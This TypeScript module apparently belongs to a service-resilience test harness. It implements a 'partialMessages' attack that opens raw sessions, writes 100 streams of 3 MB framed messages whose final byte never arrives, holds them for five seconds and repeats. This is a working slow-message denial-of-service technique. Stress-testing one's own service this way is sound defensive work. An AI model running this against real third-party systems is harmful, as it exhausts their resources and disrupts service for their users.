import { type Attack, hold } from './attack.js';
import { frame, PATHS, rawSession, rawStream } from './raw-calls.js';

const STREAMS = 100;
const HELD_MS = 5_000;
const LENGTH = 3_000_000;

/** Messages of which the last byte never comes. */
export const partialMessages: Attack = async (target) => {
  const most = frame(Buffer.alloc(LENGTH - 1), { length: LENGTH });
  while (!target.signal.aborted) {
    const session = rawSession(target.address);
    for (let n = 0; n < STREAMS && !session.destroyed; n++) rawStream(session, PATHS.recordTransactions).write(most);
    await hold(HELD_MS, target);
    session.destroy();
    target.ended('left');
  }
};
